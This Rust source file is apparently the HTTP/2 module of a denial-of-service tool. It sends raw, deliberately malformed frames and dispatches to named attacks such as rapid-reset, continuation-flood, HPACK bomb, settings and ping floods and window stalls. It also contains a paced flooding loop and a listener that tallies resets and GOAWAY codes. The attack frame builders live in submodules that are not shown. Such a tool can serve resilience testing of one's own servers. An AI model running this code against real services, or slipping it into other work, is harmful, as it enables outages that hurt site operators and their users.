//! Attacks on HTTP/2: who talks, who listens, and which file holds which attack. No HTTP/2 library is
//! involved, so that frames can be wrong.

mod floods;
mod frame;
mod headers;
mod hpack;
mod slow;
mod streams;

use crate::{
    connect::{self, Io},
    ending::{Ending, How},
    pace::Pace,
    run::Context,
    summary::Counts,
};
use frame::Head;
use hpack::Block;
use std::{
    io,
    sync::{
        Mutex, PoisonError,
        atomic::{AtomicBool, Ordering::Relaxed},
    },
    time::Duration,
};
use tokio::{
    io::{AsyncReadExt, ReadHalf, WriteHalf},
    time::{Instant, sleep, sleep_until},
};

/// How often a connection that has nothing to say looks whether it owes an answer.
const LOOK: Duration = Duration::from_millis(20);
/// Opens the connection's window, so that answers never stall a flood.
const WIDE: u32 = 0x3fff_ffff;

/// What the listening half tells the talking half.
#[derive(Default)]
struct Heard {
    /// SETTINGS and PING acknowledgements that are due.
    replies: Mutex<Vec<u8>>,
    /// Whether answers to SETTINGS and PING are owed at all.
    silent: AtomicBool,
    goaway: Mutex<Option<u32>>,
    write_failed: AtomicBool,
}

/// The talking half.
struct Talk<'a> {
    context: &'a Context,
    write: WriteHalf<Box<dyn Io>>,
    heard: &'a Heard,
    next_stream: u32,
}

pub async fn attack(context: &Context, number: usize) -> Ending {
    let since = Instant::now();
    let stream = match connect::open(&context.attack, number, b"h2").await {
        Ok(stream) => stream,
        Err(error) => return Ending::of(How::of(&Err::<(), _>(error)), since),
    };
    let (read, write) = tokio::io::split(stream);
    let heard = Heard::default();
    let mut talk = Talk {
        context,
        write,
        heard: &heard,
        next_stream: 1,
    };
    let script = async {
        let result = match script(&mut talk).await {
            Ok(()) => talk.stay().await,
            Err(error) => Err(error),
        };
        // What the other side said before it closed is still to be read: listening goes on.
        heard.write_failed.store(result.is_err(), Relaxed);
        std::future::pending::<()>().await;
    };
    let how = tokio::select! {
        biased;
        how = listen(context, read, &heard) => how,
        () = script => How::Open,
        () = sleep_until(context.until) => How::Open,
    };
    Ending {
        goaway: *heard.goaway.lock().unwrap_or_else(PoisonError::into_inner),
        ..Ending::of(how, since)
    }
}

/// What each kind says.
async fn script(talk: &mut Talk<'_>) -> io::Result<()> {
    match talk.context.attack.kind.name {
        "rapid-reset" => streams::rapid_reset(talk).await,
        "made-you-reset" => streams::made_you_reset(talk).await,
        "malformed-streams" => streams::malformed(talk).await,
        "many-streams" => streams::many(talk).await,
        "connect-flood" => streams::connect(talk).await,
        "continuation-flood" => headers::continuation(talk).await,
        "huge-header-list" => headers::huge_list(talk).await,
        "hpack-bomb" => headers::bomb(talk).await,
        "empty-headers" => headers::empty(talk).await,
        "settings-flood" => floods::settings(talk).await,
        "ping-flood" => floods::ping(talk).await,
        "priority-flood" => floods::priority(talk).await,
        "window-flood" => floods::window(talk).await,
        "empty-data" => floods::empty_data(talk).await,
        "unknown-frames" => floods::unknown(talk).await,
        "window-stall" => slow::stall(talk).await,
        "window-dribble" => slow::dribble(talk).await,
        "slow-upload" => slow::upload(talk).await,
        "stuck-frame" => slow::stuck_frame(talk).await,
        "no-request" => slow::no_request(talk).await,
        // `no-preface`: nothing at all.
        _ => {
            talk.heard.silent.store(true, Relaxed);
            Ok(())
        }
    }
}

impl Talk<'_> {
    /// Preface and SETTINGS, with the connection's window wide open.
    async fn begin(&mut self) -> io::Result<()> {
        self.begin_with(&[], true).await
    }

    async fn begin_with(&mut self, settings: &[(u16, u32)], wide: bool) -> io::Result<()> {
        let mut out = frame::PREFACE.to_vec();
        out.extend_from_slice(&frame::settings(settings));
        if wide {
            out.extend_from_slice(&frame::window_update(0, WIDE));
        }
        self.say(&out).await
    }

    /// Sends what is owed, then this.
    async fn say(&mut self, bytes: &[u8]) -> io::Result<()> {
        let mut out = {
            let mut replies = self
                .heard
                .replies
                .lock()
                .unwrap_or_else(PoisonError::into_inner);
            std::mem::take(&mut *replies)
        };
        out.extend_from_slice(bytes);
        if out.is_empty() {
            return Ok(());
        }
        self.context.send(&mut self.write, &out).await
    }

    /// Owes nothing, for ever.
    async fn stay(&mut self) -> io::Result<()> {
        loop {
            sleep(LOOK).await;
            self.say(&[]).await?;
        }
    }

    /// Sends units made one by one, at the attack's pace, until none are left.
    async fn flood(&mut self, mut unit: impl FnMut(&mut Self) -> Vec<u8>) -> io::Result<()> {
        let mut pace = Pace::new(self.context.attack.rate, self.context.attack.units);
        while let Some(due) = pace.due().await {
            let mut out = Vec::new();
            for _ in 0..due {
                out.extend_from_slice(&unit(self));
            }
            self.say(&out).await?;
            Counts::add(
                &self.context.counts.units,
                usize::try_from(due).unwrap_or(usize::MAX),
            );
        }
        Ok(())
    }

    /// The number of a new stream.
    fn stream(&mut self) -> u32 {
        let stream = self.next_stream;
        self.next_stream = stream.saturating_add(2) & 0x7fff_ffff;
        stream
    }

    fn get(&self) -> Block {
        Block::get(&self.context.attack.path, &self.context.attack.name)
    }

    fn post(&self) -> Block {
        Block::post(&self.context.attack.path, &self.context.attack.name)
    }
}

/// Reads frames to the end, and says what that was.
async fn listen(context: &Context, mut read: ReadHalf<Box<dyn Io>>, heard: &Heard) -> How {
    let mut payload = Vec::new();
    loop {
        let result = hear(context, &mut read, heard, &mut payload).await;
        if let Err(error) = result {
            // A reset is told once, and writing may have been first to hear it.
            return if heard.write_failed.load(Relaxed) {
                How::Reset
            } else if error.kind() == io::ErrorKind::UnexpectedEof && error.get_ref().is_none() {
                How::CloseNotify
            } else {
                How::of(&Err::<(), _>(error))
            };
        }
    }
}

/// One frame.
async fn hear(
    context: &Context,
    read: &mut ReadHalf<Box<dyn Io>>,
    heard: &Heard,
    payload: &mut Vec<u8>,
) -> io::Result<()> {
    let mut bytes = [0; frame::HEAD];
    let mut got = 0;
    while let Some(rest) = bytes.get_mut(got..).filter(|rest| !rest.is_empty()) {
        match read.read(rest).await? {
            // Without a word of TLS, rustls' own error says so; this is the announced end.
            0 => return Err(io::ErrorKind::UnexpectedEof.into()),
            more => got = got.saturating_add(more),
        }
    }
    let came = Head::parse(bytes);
    payload.resize(came.length, 0);
    read.read_exact(payload).await?;
    Counts::add(
        &context.counts.bytes_received,
        frame::HEAD.saturating_add(came.length),
    );
    match came.kind {
        frame::HEADERS => Counts::add(&context.counts.answers, 1),
        frame::RST_STREAM => Counts::add(&context.counts.resets, 1),
        frame::SETTINGS if came.flags & frame::ACK == 0 => {
            reply(heard, &frame::frame(frame::SETTINGS, frame::ACK, 0, &[]));
        }
        frame::PING if came.flags & frame::ACK == 0 => {
            reply(heard, &frame::frame(frame::PING, frame::ACK, 0, payload));
        }
        frame::GOAWAY => {
            let code = payload
                .get(4..8)
                .and_then(|code| code.try_into().ok())
                .map_or(0, u32::from_be_bytes);
            let mut goaway = heard.goaway.lock().unwrap_or_else(PoisonError::into_inner);
            *goaway = Some(goaway.filter(|code| *code != 0).unwrap_or(code));
        }
        _ => {}
    }
    Ok(())
}

fn reply(heard: &Heard, frame: &[u8]) {
    if !heard.silent.load(Relaxed) {
        let mut replies = heard.replies.lock().unwrap_or_else(PoisonError::into_inner);
        replies.extend_from_slice(frame);
    }
}
